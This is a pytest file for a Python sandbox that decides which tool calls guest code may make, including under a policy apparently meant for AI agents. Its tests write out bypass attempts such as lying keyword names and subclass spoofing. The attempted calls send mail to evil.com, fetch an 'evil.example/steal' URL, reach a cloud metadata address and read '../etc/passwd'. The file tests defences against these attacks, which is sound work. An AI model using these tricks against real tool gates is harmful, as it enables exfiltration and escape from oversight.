"""Invariant: the policy decides on exactly what the host receives (the one door out).

Every tool call is normalised before a rule sees it (exact ``str`` keyword names, values copied
into exact builtin types without running guest code, arguments placed by the host function's
real signature) and the host function is called with exactly those values. Each test is written
as the attacker wrote it: guest code through the public API, against a recording host tool.
"""

from __future__ import annotations

import fractions
import functools
from pathlib import Path
from typing import Any

import pytest

from safe_eval import Evaluator, safe_eval, safe_exec
from safe_eval.errors import GuestError, PolicyViolation
from safe_eval.membrane import expose
from safe_eval.policy import Policy, load_policy, parse_policy, shipped_policy

AGENT = shipped_policy("agent")


class Outbox:
    """A host tool that records what it received, as a real one would use it."""

    def __init__(self) -> None:
        self.sent: list[tuple[Any, ...]] = []

    def send_email(self, to: str, subject: str, body: str) -> str:
        self.sent.append((type(to), to, str(subject), str(body)))
        return "sent"


def _send(outbox: Outbox) -> Any:
    def send_email(to: str, subject: str, body: str) -> str:
        return outbox.send_email(to, subject, body)

    return send_email


# -- item 2: keyword names that lie ---------------------------------------------------------

# The rule binder and CPython compare a keyword name with the parameter names at different
# moments; a name whose __eq__ answers by the count of questions told the binder "subject" and
# CPython "to" (0.1.0 sent this mail to boss@evil.com under the shipped agent policy).
LYING_KEYS = """
seen = []
class To(str):
    def __hash__(self): return hash("subject")
    def __eq__(self, other): return str.__eq__("subject", other) or str.__eq__("to", other)
class Subject(str):
    def __hash__(self): return hash("to")
    def __eq__(self, other):
        seen.append(other)
        if str.__eq__("to", other):
            return len([s for s in seen if s == "to"]) <= 3
        return str.__eq__("subject", other)
send_email(**{To("to"): "boss@evil.com", Subject("subject"): "a@example.com"}, body="b")
"""


def test_keyword_names_that_lie_about_their_text_cannot_send_mail_outside() -> None:
    outbox = Outbox()
    with pytest.raises(PolicyViolation, match="argument `to` must match .* got 'boss@evil.com'"):
        safe_eval(LYING_KEYS, {"send_email": _send(outbox)}, policy=AGENT)
    assert outbox.sent == []


def test_keyword_names_reach_the_host_as_exact_str() -> None:
    received: list[tuple[type, str]] = []

    def note(**fields: Any) -> None:
        received.extend((type(k), k) for k in fields)

    safe_eval('class K(str):\n    pass\nnote(**{K("a"): 1})', {"note": note}, policy=parse_policy("allow note(*)"))
    assert received == [(str, "a")]


# -- item 3: **kwargs overwrites a checked argument -------------------------------------------


def test_a_keyword_cannot_stand_in_for_a_positional_only_argument_the_rule_checks() -> None:
    fetched: list[str] = []

    def fetch(url: str, /, **options: Any) -> str:
        fetched.append(url)
        return "page"

    policy = parse_policy('allow fetch(url: str matches r"https://ok\\.example/.*", *)')
    # the keyword in a mapping: the static check cannot see it, the run-time gate decides
    code = 'options = {"url": "https://ok.example/"}\nfetch("https://evil.example/steal", **options)'
    with pytest.raises(GuestError, match="positional-only"):
        safe_eval(code, {"fetch": fetch}, policy=policy)
    with pytest.raises(PolicyViolation):  # written out, the static check refuses it already
        safe_eval('fetch("https://evil.example/steal", url="https://ok.example/")', {"fetch": fetch}, policy=policy)
    assert fetched == []
    assert safe_eval('fetch("https://ok.example/a", timeout=3)', {"fetch": fetch}, policy=policy) == "page"
    assert fetched == ["https://ok.example/a"]


def test_a_keyword_given_twice_through_a_mapping_is_a_type_error_as_in_cpython() -> None:
    calls: list[dict[str, Any]] = []

    def tool(**kw: Any) -> None:
        calls.append(kw)

    with pytest.raises(GuestError, match="multiple values for keyword argument 'a'"):
        safe_eval("tool(**{'a': 1}, a=2)", {"tool": tool}, policy=parse_policy("allow tool(*)"))
    assert calls == []


# -- item 4: deny rules fail open --------------------------------------------------------------

DENY_POLICY = parse_policy(
    'deny notify(to == "boss@evil.com") raise "no mail to evil.com"\n'
    'deny send(to matches r".*@evil\\.com") raise "no mail to evil.com"\n'
    'deny pay(amount in 1000..) raise "too much"\n'
    "allow send(*)\nallow pay(*)\nallow notify(*)"
)

DODGES = {
    "str_subclass": ('class S(str):\n    pass\nsend(S("x@evil.com"))', "send"),
    "bytes": ('send(b"x@evil.com")', "send"),
    "int_subclass": ("class I(int):\n    pass\npay(I(5000))", "pay"),
    "bool_is_in_doubt": ("pay(True)", "pay"),
    "float_nan": ('pay(float("nan"))', "pay"),
    "decimal": ('from decimal import Decimal\npay(Decimal("5000"))', "pay"),
    "decimal_nan": ('from decimal import Decimal\npay(Decimal("NaN"))', "pay"),
    "number_as_text": ('pay("5000")', "pay"),
    "guest_object": ("class Amount:\n    pass\npay(Amount())", "pay"),
    "guest_object_as_text": ('class To:\n    def __str__(self): return "boss@evil.com"\nnotify(To())', "notify"),
}


def _payments(calls: list[Any]) -> dict[str, Any]:
    def send(to: Any) -> None:
        calls.append(to)

    def pay(amount: Any) -> None:
        calls.append(amount)

    def notify(to: Any) -> None:
        calls.append(str(to))

    return {"send": send, "pay": pay, "notify": notify}


@pytest.mark.parametrize(("code", "tool"), DODGES.values(), ids=DODGES.keys())
def test_a_value_of_another_kind_cannot_slip_past_a_deny_rule(code: str, tool: str) -> None:
    calls: list[Any] = []
    env = _payments(calls)
    policy = DENY_POLICY.replace(imports=frozenset({"decimal"}))
    with pytest.raises(GuestError, match="PermissionError"):
        safe_eval(code, env, policy=policy)
    assert calls == []


def test_plain_values_outside_the_deny_rule_are_still_allowed() -> None:
    calls: list[Any] = []
    safe_eval('send("a@example.com")\npay(999)', _payments(calls), policy=DENY_POLICY)
    assert calls == ["a@example.com", 999]


def test_a_deny_rule_naming_an_argument_the_tool_does_not_have_fires_in_doubt() -> None:
    # `list.append(object, /)` has no `to`: which argument the rule meant is unknown
    calls: list[Any] = []
    with pytest.raises(GuestError, match="no mail to evil.com"):
        safe_eval('send("x@evil.com")', {"send": calls.append}, policy=DENY_POLICY)
    assert calls == []


def test_a_deny_rule_sees_an_argument_passed_through_star_args() -> None:
    calls: list[Any] = []

    def send(*recipients: Any) -> None:
        calls.append(recipients)

    with pytest.raises(GuestError, match="no mail to evil.com"):
        safe_eval('send("x@evil.com")', {"send": send}, policy=DENY_POLICY)
    assert calls == [] and safe_eval("send()", {"send": send}, policy=DENY_POLICY) is None


# -- item 5: rules check the object, not what the host uses -----------------------------------


def test_a_str_subclass_cannot_show_the_rule_five_characters_and_the_host_a_million() -> None:
    outbox = Outbox()
    code = """
class Body(str):
    def __str__(self): return "x" * 1_000_000
send_email("a@example.com", "hi", Body("short"))
"""
    assert safe_eval(code, {"send_email": _send(outbox)}, policy=AGENT) == "sent"
    assert outbox.sent == [(str, "a@example.com", "hi", "short")]


def test_a_list_subclass_cannot_show_the_rule_two_users_and_the_host_a_thousand() -> None:
    invited: list[Any] = []

    def invite(users: list[str]) -> int:
        invited.append((type(users), list(users)))
        return len(users)

    code = """
class Users(list):
    def __iter__(self): return iter(["u%d" % i for i in range(1000)])
    def __len__(self): return 2
invite(Users(["ann", "bob"]))
"""
    policy = parse_policy("allow invite(users: list[str] len 1..3)")
    assert safe_eval(code, {"invite": invite}, policy=policy) == 2
    assert invited == [(list, ["ann", "bob"])]


# Each guest subclass overrides every method a careless copy would call; the host must get the
# data the object holds, as the exact builtin type, and no override may run.
OVERRIDES = """
ran = []
def spy(name, result):
    def method(self, *args):
        ran.append(name)
        return result
    return method
"""
PLAIN_COPIES = {
    "str": ('S("abc")', "class S(str):\n    __str__ = spy('__str__', 'zzz')\n    __iter__ = spy('__iter__', iter('zz'))\n"
            "    __getitem__ = spy('__getitem__', 'z')\n    __len__ = spy('__len__', 9)", "abc"),
    "int": ("I(7)", "class I(int):\n    __int__ = spy('__int__', 9)\n    __index__ = spy('__index__', 9)\n"
            "    __repr__ = spy('__repr__', '9')", 7),
    "float": ("F(1.5)", "class F(float):\n    __float__ = spy('__float__', 9.0)\n    __repr__ = spy('__repr__', '9')", 1.5),
    "bytes": ('B(b"ab")', "class B(bytes):\n    __bytes__ = spy('__bytes__', b'zz')\n    __iter__ = spy('__iter__', iter([1]))\n"
              "    __getitem__ = spy('__getitem__', 1)", b"ab"),
    "complex": ("C(1+2j)", "class C(complex):\n    __complex__ = spy('__complex__', 9j)\n"
                "    real = property(spy('real', 9.0))\n    imag = property(spy('imag', 9.0))", 1 + 2j),
    "bytearray": ('A(b"ab")', "class A(bytearray):\n    __iter__ = spy('__iter__', iter([1]))\n"
                  "    copy = spy('copy', bytearray())\n    __getitem__ = spy('__getitem__', 1)", bytearray(b"ab")),
    "list": ("L([1, 2])", "class L(list):\n    __iter__ = spy('__iter__', iter([9]))\n    __len__ = spy('__len__', 1)\n"
             "    __getitem__ = spy('__getitem__', 9)\n    copy = spy('copy', [9])", [1, 2]),
    "tuple": ("T((1, 2))", "class T(tuple):\n    __iter__ = spy('__iter__', iter([9]))\n    __len__ = spy('__len__', 1)\n"
              "    __getitem__ = spy('__getitem__', 9)", (1, 2)),
    "dict": ('D(a=1)', "class D(dict):\n    __iter__ = spy('__iter__', iter(['k']))\n    keys = spy('keys', ['k'])\n"
             "    items = spy('items', [('k', 9)])\n    values = spy('values', [9])\n    __getitem__ = spy('__getitem__', 9)\n"
             "    copy = spy('copy', {})\n    __len__ = spy('__len__', 0)", {"a": 1}),
    "set": ("Z({1, 2})", "class Z(set):\n    __iter__ = spy('__iter__', iter([9]))\n    __len__ = spy('__len__', 1)\n"
            "    copy = spy('copy', set())", {1, 2}),
    "frozenset": ("Z(frozenset({1}))", "class Z(frozenset):\n    __iter__ = spy('__iter__', iter([9]))\n"
                  "    __len__ = spy('__len__', 1)\n    copy = spy('copy', frozenset())", frozenset({1})),
    "nested": ('[S("a"), {S("k"): (S("v"),)}]', "class S(str):\n    __str__ = spy('__str__', 'zzz')\n"
               "    __hash__ = spy('__hash__', 0)\n    __eq__ = spy('__eq__', True)", ["a", {"k": ("v",)}]),
}


@pytest.mark.parametrize(("value", "cls", "expected"), PLAIN_COPIES.values(), ids=PLAIN_COPIES.keys())
def test_a_guest_subclass_reaches_the_host_as_the_plain_data_it_holds(value: str, cls: str, expected: Any) -> None:
    received: list[Any] = []

    def take(x: Any) -> None:
        received.append(x)

    code = f"{OVERRIDES}{cls}\nv = {value}\nran.clear()\ntake(v)\nran"
    ran = safe_eval(code, {"take": take}, policy=parse_policy("allow take(x: object)"))
    assert ran == []
    assert received == [expected]
    assert type(received[0]) is type(expected)


def test_a_guest_object_reaches_a_tool_only_where_the_rule_places_no_condition_on_it() -> None:
    received: list[Any] = []
    env = {"take": lambda x, tag: received.append(tag)}
    policy = parse_policy("allow take(x, tag: str)")
    assert safe_eval("class P:\n    pass\ntake(P(), 'unchecked')", env, policy=policy) is None
    checked = parse_policy("allow take(x: str, tag: str)")
    with pytest.raises(PolicyViolation, match="not plain data"):
        safe_eval("class P:\n    pass\ntake(P(), 'checked')", env, policy=checked)
    assert received == ["unchecked"]


def test_the_audit_hook_sees_the_values_the_host_receives() -> None:
    events: list[Any] = []
    ev = Evaluator(parse_policy("allow take(*)"), audit=events.append)
    ev.eval('class S(str):\n    pass\ntake(S("a"), k=S("b"))', {"take": lambda *a, **k: None})
    assert [(e.args, e.kwargs) for e in events] == [(("a",), {"k": "b"})]
    assert type(events[0].args[0]) is str and type(events[0].kwargs["k"]) is str


def test_a_method_tool_is_bound_to_its_real_signature() -> None:
    outbox = Outbox()
    env = {"outbox": expose(outbox, methods=["send_email"])}
    policy = parse_policy('allow Outbox.send_email(to matches r".*@example\\.com", subject, body)')
    code = 'outbox.send_email(subject="a@example.com", body="b", to="x@evil.com")'
    with pytest.raises(PolicyViolation):
        safe_eval(code, env, policy=policy)
    assert safe_eval('outbox.send_email("a@example.com", "s", "b")', env, policy=policy) == "sent"
    assert outbox.sent == [(str, "a@example.com", "s", "b")]


# -- item 7: host exception classes in env bypass the gate -----------------------------------


class HostError(Exception):
    """A host exception class whose constructor has a side effect."""

    built: list[tuple[Any, ...]] = []

    def __init__(self, *args: Any) -> None:
        HostError.built.append(args)
        super().__init__(*args)


def test_constructing_a_host_exception_class_is_a_tool_call_the_policy_denies() -> None:
    HostError.built.clear()
    events: list[Any] = []
    ev = Evaluator(parse_policy("deny *(*)"), audit=events.append)
    # through an alias, so that the run-time gate (not the static check) decides
    with pytest.raises(PolicyViolation, match="calling `HostError` is denied"):
        ev.eval('make = [HostError][0]\nmake("payload")', {"HostError": HostError})
    with pytest.raises(PolicyViolation, match="calling `HostError` is denied"):
        ev.eval("raise HostError", {"HostError": HostError})
    assert HostError.built == []
    assert [(e.name, e.args, e.decision.allowed) for e in events] == [
        ("HostError", ("payload",), False), ("HostError", (), False)
    ]


RECONSTRUCTIONS = {
    "type_of_caught": "try:\n    fail()\nexcept Exception as e:\n    r = type(e)('payload')",
    "class_attribute": "try:\n    fail()\nexcept Exception as e:\n    r = e.__class__('payload')",
}


@pytest.mark.parametrize("code", RECONSTRUCTIONS.values(), ids=RECONSTRUCTIONS.keys())
def test_the_class_of_a_caught_host_exception_is_the_same_gated_tool(code: str) -> None:
    def fail() -> None:
        raise HostError("disk full")

    HostError.built.clear()
    with pytest.raises(PolicyViolation, match="`HostError` is not an allowed tool"):
        safe_eval(code, {"fail": fail}, policy=parse_policy("allow fail()"))
    assert HostError.built == [("disk full",)]  # the tool's own raise, never the guest's
    same = "try:\n    fail()\nexcept Exception as e:\n    r = (type(e) == HostError, isinstance(e, type(e)))\nr"
    assert safe_eval(same, {"fail": fail, "HostError": HostError}, policy=parse_policy("allow fail()")) == (True, True)


def test_a_host_exception_class_cannot_be_subclassed_to_run_its_constructor_ungated() -> None:
    HostError.built.clear()
    with pytest.raises(GuestError, match="cannot derive from"):
        safe_eval("class E(HostError):\n    pass\nE('x')", {"HostError": HostError}, policy=parse_policy("deny *(*)"))
    assert HostError.built == []


def test_except_host_error_still_catches_what_a_tool_raises() -> None:
    def fail() -> None:
        raise HostError("disk full")

    code = """
try:
    fail()
except (ValueError, HostError) as e:
    r = (str(e), isinstance(e, HostError))
r
"""
    policy = parse_policy("allow fail()")
    assert safe_eval(code, {"fail": fail, "HostError": HostError}, policy=policy) == ("disk full", True)


def test_copying_a_large_argument_is_paid_for_by_the_guest() -> None:
    # ops are under test: a time limit a traced or loaded run cannot reach
    ev = Evaluator(parse_policy("allow take(*)"), limits={"time": 60})
    env = {"take": lambda xs: None}
    alone = ev.run("xs = [[0]] * 100_000", env).ops
    passed = ev.run("xs = [[0]] * 100_000\ntake(xs)", env).ops
    assert passed - alone >= 200_000  # the outer list and each inner one, one op per item


def test_a_writable_attribute_of_an_exposed_object_receives_plain_data() -> None:
    class Profile:
        name = "alice"
        tags: list[str] = []

    profile = Profile()
    env = {"profile": expose(profile, attrs=["name", "tags"], writable=["name", "tags"])}
    code = """
class Name(str):
    def __str__(self): return "x" * 1_000_000
class Tags(list):
    def __iter__(self): return iter(["admin"])
p = [profile][0]  # the static check refuses a write to an env name; the membrane decides this one
p.name = Name("bob")
p.tags = Tags(["user"])
"""
    safe_eval(code, env)
    assert (type(profile.name), str(profile.name)) == (str, "bob")
    assert (type(profile.tags), list(profile.tags)) == (list, ["user"])


# -- a call the gate cannot place is denied, at the floor too (issue 16, finding 4) -------------


def _extending(tmp_path: Path, base: str, child: str) -> Policy:
    (tmp_path / "base.policy").write_text(f"policy base\n{base}\n")
    (tmp_path / "child.policy").write_text(f'policy child\nextends "base.policy"\n{child}\n')
    return load_policy(tmp_path / "child.policy")


def test_a_keyword_named_like_a_positional_only_parameter_does_not_lift_the_base_deny(tmp_path: Path) -> None:
    fetched: list[str] = []

    def fetch(url: str, /, **options: Any) -> str:
        fetched.append(url)
        return "body"

    policy = _extending(
        tmp_path,
        'deny fetch(url matches r"https?://(169\\.254\\.|localhost|127\\.).*") raise "no internal addresses"\n'
        'allow fetch(url: str matches r"https://.*", *)',
        "allow fetch(*)",
    )
    code = 'u = "http://169.254." + "169.254/latest/meta-data"\nfetch(u, url="x")'
    with pytest.raises(GuestError, match="do not fit its signature"):
        safe_eval(code, {"fetch": fetch}, policy=policy)
    assert fetched == []


def _retrying(fn: Any) -> Any:
    @functools.wraps(fn)
    def wrapper(*args: Any, retries: int = 3, **kwargs: Any) -> Any:
        return fn(*args, **kwargs)

    return wrapper


WRAPPED_CALLS = {
    "positional": 'to = "ceo@" + "competitor.com"\nsend_email(to, "s", "b")',
    "with_the_wrappers_keyword": 'to = "ceo@" + "competitor.com"\nsend_email(to, "s", "b", retries=1)',
    "by_keyword": 'send_email(to="ceo@" + "competitor.com", subject="s", body="b", retries=1)',
}


@pytest.mark.parametrize("code", WRAPPED_CALLS.values(), ids=WRAPPED_CALLS.keys())
def test_a_decorated_tool_is_bound_to_the_wrapper_cpython_calls(tmp_path: Path, code: str) -> None:
    sent: list[str] = []

    @_retrying
    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "sent"

    policy = _extending(
        tmp_path,
        'deny send_email(to matches r".*@competitor\\.com") raise "never mail competitors"\n'
        "allow send_email(to: str, subject: str, body: str)",
        "allow send_email(*)",
    )
    with pytest.raises(GuestError, match="never mail competitors"):
        safe_eval(code, {"send_email": send_email}, policy=policy)
    assert sent == []
    assert safe_eval('send_email(to="bob@corp.com", subject="s", body="b")', {"send_email": send_email},
                     policy=policy) == "sent"
    assert sent == ["bob@corp.com"]


# -- a class is bound the way both of its constructors receive the call (finding 5) ------------


class Document:
    opened: list[str] = []

    def __new__(cls, *args: Any, **kwargs: Any) -> Document:
        return super().__new__(cls)

    def __init__(self, path: str, mode: str = "r") -> None:
        Document.opened.append(path)


class Report:
    opened: list[str] = []

    def __new__(cls, path: str, mode: str = "r") -> Report:
        return super().__new__(cls)

    def __init__(self, path: str, mode: str = "r") -> None:
        Report.opened.append(path)


CLASS_CALLS = {
    "positional": 'p = "../etc/" + "passwd"\nDocument(p)',
    "keyword": 'Document(path="../etc/" + "passwd")',
    "in_data": 'Document("data/report")',
}


@pytest.mark.parametrize("code", CLASS_CALLS.values(), ids=CLASS_CALLS.keys())
def test_a_path_passed_to_init_cannot_hide_in_the_star_args_of_new(code: str) -> None:
    Document.opened.clear()
    policy = parse_policy('allow Document(path: str matches r"data/[A-Za-z0-9_/]+", *)')
    with pytest.raises(PolicyViolation, match="cannot be read"):
        safe_eval(code, {"Document": Document}, policy=policy)
    assert Document.opened == []


def test_a_class_whose_new_and_init_agree_is_still_checked_by_argument() -> None:
    Report.opened.clear()
    policy = parse_policy('allow Report(path: str matches r"data/[A-Za-z0-9_/]+", *)')
    safe_eval('Report("data/q1")', {"Report": Report}, policy=policy)
    with pytest.raises(PolicyViolation, match="must match"):
        safe_eval('p = "../etc/" + "passwd"\nReport(p)', {"Report": Report}, policy=policy)
    assert Report.opened == ["data/q1"]


# -- a function is placed by how it is called, not by how it was last called (finding 6) -------


def test_a_method_alias_does_not_shift_the_arguments_of_the_plain_tool() -> None:
    got: list[tuple[Any, Any]] = []

    def notify(channel: Any, message: str = "", urgent: bool = False) -> str:
        got.append((channel, message))
        return "ok"

    class Team:
        notify_all = notify

    policy = parse_policy(
        "allow Team.notify_all(message: str len ..100, *)\n"
        'allow notify(channel: str matches r"#(general|random)", message: str len ..100, *)'
    )
    ev = Evaluator(policy)
    env = {"team": expose(Team(), methods=["notify_all"]), "notify": notify}
    assert ev.eval('team.notify_all("hello")', env) == "ok"  # the bound placer, cached first
    with pytest.raises(PolicyViolation, match="must match"):
        ev.eval('c = "#admin" + "-alerts"\nnotify(c, "hi")', env)
    assert [m for _, m in got] == ["hello"]


# -- an exact Fraction is rebuilt from plain ints (finding 7) ----------------------------------


def _transfer(paid: list[Any]) -> Any:
    def transfer(to: str, amount: Any) -> str:
        paid.append((type(amount), float(amount)))
        return "ok"

    return transfer


def test_a_fraction_built_around_a_guest_object_reaches_no_host_arithmetic() -> None:
    paid: list[Any] = []
    code = """
from fractions import Fraction
class N:
    def __mul__(self, o): return 5
    __rmul__ = __mul__
    def __float__(self): return 1e9
class I(int):
    @property
    def numerator(self): return N()
transfer("acct", Fraction(I(3)))
"""
    policy = parse_policy("extends default\nallow transfer(to: str, amount in 0..100)")
    with pytest.raises(PolicyViolation, match="not plain data"):
        safe_eval(code, {"transfer": _transfer(paid)}, policy=policy)
    assert paid == []


def test_a_fraction_of_int_subclasses_reaches_the_host_as_plain_ints() -> None:
    paid: list[Any] = []
    code = """
from fractions import Fraction
class I(int):
    def __float__(self): return 1e9
    def __index__(self): return 10**9
transfer("acct", Fraction(I(3), I(4)))
"""
    policy = parse_policy("extends default\nallow transfer(to: str, amount in 0..100)")
    assert safe_eval(code, {"transfer": _transfer(paid)}, policy=policy) == "ok"
    assert paid == [(fractions.Fraction, 0.75)]


# -- assigning a host attribute is a decided, audited tool call of plain data (finding 8) ------


class Settings:
    def __init__(self) -> None:
        self._recipient = "ops@example.com"

    @property
    def recipient(self) -> Any:
        return self._recipient

    @recipient.setter
    def recipient(self, value: Any) -> None:
        self._recipient = value


ASSIGN = "x = [settings][0]\nx.recipient = {value}"
GUEST_OBJECT = """
class R:
    def __str__(self): return "attacker@evil.com"
    def __eq__(self, o): return True
    def __hash__(self): return 1
x = [settings][0]
x.recipient = R()
"""


def _settings_env(settings: Settings) -> dict[str, Any]:
    return {"settings": expose(settings, attrs=["recipient"], writable=["recipient"])}


def test_a_guest_object_is_never_stored_in_a_host_attribute() -> None:
    settings = Settings()
    with pytest.raises(GuestError, match="only plain data"):
        safe_exec(GUEST_OBJECT, _settings_env(settings), policy=parse_policy("allow *(*)"))
    assert settings._recipient == "ops@example.com"


ASSIGNMENT_POLICIES = {
    "deny_everything": ("deny *(*)", '"attacker@evil.com"', False),
    "deny_the_attribute": ('deny Settings.recipient(value matches r".*@evil\\.com")\nallow *(*)',
                           '"attacker@evil.com"', False),
    "allowed": ("allow Settings.recipient(value: str)", '"bob@example.com"', True),
}


@pytest.mark.parametrize(("rules", "value", "allowed"), ASSIGNMENT_POLICIES.values(), ids=ASSIGNMENT_POLICIES.keys())
def test_assigning_a_host_attribute_is_a_tool_call_the_policy_decides(rules: str, value: str, allowed: bool) -> None:
    settings = Settings()
    events: list[Any] = []
    ev = Evaluator(parse_policy(rules), audit=events.append)
    code = ASSIGN.format(value=value)
    if allowed:
        ev.exec(code, _settings_env(settings))
    else:
        with pytest.raises(PolicyViolation, match="`Settings.recipient`"):
            ev.exec(code, _settings_env(settings))
    expected = value.strip('"') if allowed else "ops@example.com"
    assert settings._recipient == expected
    assert [(e.name, e.args, e.decision.allowed) for e in events] == [
        ("Settings.recipient", (value.strip('"'),), allowed)
    ]


# -- a tool is named by the name the policy is written against (finding 9) ---------------------


class PagerAlert(Exception):
    paged: list[Any] = []

    def __init__(self, msg: str) -> None:
        PagerAlert.paged.append(msg)
        super().__init__(msg)


def test_a_host_exception_class_from_env_is_the_tool_of_its_env_key() -> None:
    PagerAlert.paged.clear()
    events: list[Any] = []
    ev = Evaluator(parse_policy('deny Page(*) raise "paging is off"\nallow *(*)'), audit=events.append)
    with pytest.raises(GuestError, match="paging is off"):
        ev.eval('Page("wake up")', {"Page": PagerAlert})
    assert PagerAlert.paged == []
    assert [(e.name, e.decision.allowed) for e in events] == [("Page", False)]


def test_a_method_of_an_exposed_class_is_named_by_the_class_not_its_metaclass() -> None:
    made: list[Any] = []

    class User:
        @classmethod
        def create(cls, name: str) -> str:
            made.append(("user", name))
            return "u"

    class Team:
        @classmethod
        def create(cls, name: str) -> str:
            made.append(("team", name))
            return "t"

    events: list[Any] = []
    ev = Evaluator(parse_policy('deny User.create(*) raise "no new accounts"\nallow *(*)'), audit=events.append)
    env = {"User": expose(User, methods=["create"]), "Team": expose(Team, methods=["create"])}
    with pytest.raises(GuestError, match="no new accounts"):
        ev.eval('User.create("root")', env)
    assert ev.eval('Team.create("ops")', env) == "t"
    assert made == [("team", "ops")]
    assert [(e.name, e.decision.allowed) for e in events] == [("User.create", False), ("Team.create", True)]


def test_logging_a_tool_call_never_runs_a_guest_repr(caplog: pytest.LogCaptureFixture) -> None:
    # a guest object reaches a tool as it is where the rule places no condition on it; the log
    # line is written while the watchdog is paused for the host's code, so a guest __repr__
    # there would run unbounded: it is shown by its type name
    code = ("seen = []\nclass G:\n    def __repr__(self):\n        seen.append('repr')\n"
            "        while True:\n            pass\n"
            "note(G(), [G(), 1, 's'], k={1: G()})\nseen")
    with caplog.at_level("INFO", logger="safe_eval"):
        seen = safe_eval(code, {"note": lambda *a, **k: None}, policy=parse_policy("allow note(*)"),
                         limits={"time": 5})
    assert seen == []
    assert "note(<G object>, [<G object>, 1, 's'], k={1: <G object>})" in caplog.text


# -- an exposed attribute's value is the guest's own copy (red team rt-exit, finding 2) ----------
# A declared attribute read handed the guest the host's own list/dict/set/bytearray: the guest
# mutated it in place (``profile.tags.append("admin")``), a write to the host object that no
# rule decided and no audit hook saw, even where ``deny Profile.tags`` denies assigning it.


class Profile:
    def __init__(self) -> None:
        self.tags = ["user"]
        self.limits = {"max": 10, "roles": ["reader"]}
        self.seen = {"a"}
        self.blob = bytearray(b"ab")
        self.pair = (["x"], 1)


def _profile_env(profile: Profile) -> dict[str, Any]:
    return {"profile": expose(profile, attrs=["limits", "seen", "blob", "pair"], writable=["tags"])}


IN_PLACE_WRITES = {
    "append_to_a_writable_list": "t = profile.tags\nt.append('admin')",
    "augmented_assignment_of_an_item": "t = profile.tags\nt += ['admin']",
    "item_of_a_read_only_dict": "d = profile.limits\nd['max'] = 10**9",
    "nested_list_in_a_read_only_dict": "d = profile.limits\nd['roles'].append('admin')",
    "read_only_set": "s = profile.seen\ns.add('b')",
    "read_only_bytearray": "b = profile.blob\nb[0] = 0",
    "list_inside_a_read_only_tuple": "p = profile.pair\np[0].append('y')",
}


@pytest.mark.parametrize("code", IN_PLACE_WRITES.values(), ids=IN_PLACE_WRITES.keys())
def test_mutating_an_exposed_attribute_in_place_never_changes_the_host_object(code: str) -> None:
    profile = Profile()
    events: list[Any] = []
    ev = Evaluator(parse_policy("deny Profile.tags\nallow *(*)"), audit=events.append)
    ev.exec(code, _profile_env(profile))
    assert profile.tags == ["user"]
    assert profile.limits == {"max": 10, "roles": ["reader"]}
    assert profile.seen == {"a"}
    assert profile.blob == bytearray(b"ab")
    assert profile.pair == (["x"], 1)
    assert events == []


def test_the_guest_still_reads_and_changes_its_copy_of_an_exposed_attribute() -> None:
    profile = Profile()
    code = "t = profile.tags\nt.append('mine')\nd = profile.limits\nd['max'] += 1\n(t, d['max'], profile.tags)"
    assert safe_eval(code, _profile_env(profile)) == (["user", "mine"], 11, ["user"])


def test_assigning_a_changed_copy_back_is_the_decided_tool_call() -> None:
    profile = Profile()
    with pytest.raises(PolicyViolation):
        safe_exec("t = profile.tags\nt.append('admin')\nprofile.tags = t", _profile_env(profile),
                  policy=parse_policy("deny Profile.tags\nallow *(*)"))
    assert profile.tags == ["user"]
    safe_exec("t = profile.tags\nt.append('ops')\nprofile.tags = t", _profile_env(profile),
              policy=parse_policy("allow Profile.tags(*)"))
    assert profile.tags == ["user", "ops"]
